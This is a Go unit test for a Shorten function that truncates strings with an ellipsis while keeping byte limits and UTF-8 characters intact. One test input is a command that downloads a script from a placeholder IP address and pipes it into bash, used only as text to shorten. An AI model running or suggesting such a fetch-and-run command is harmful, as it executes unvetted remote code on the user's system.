package tocsin

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestShorten(t *testing.T) {
	for _, tt := range []struct {
		in   string
		n    int
		want string
	}{
		{"short", 5, "short"}, {"curl -s http://203.0.113.9/x | bash", 24, "curl -s htt … x | bash"}, {"éééééééééé", 12, "é … éé"}, {"", 3, ""},
	} {
		if got := Shorten(tt.in, tt.n); got != tt.want {
			t.Errorf("%q to %d: got %q, want %q", tt.in, tt.n, got, tt.want)
		}
	}
	for _, s := range []string{strings.Repeat("é", 400), strings.Repeat("a", 700), strings.Repeat("中", 300), strings.Repeat("\x80", 600)} {
		for n := range 600 {
			got := Shorten(s, n)
			if n >= 16 && len(got) > n {
				t.Fatalf("%d bytes, want %d at most", len(got), n)
			}
			if utf8.ValidString(s) && !utf8.ValidString(got) {
				t.Fatalf("to %d: a character is cut: %q", n, got)
			}
		}
	}
}
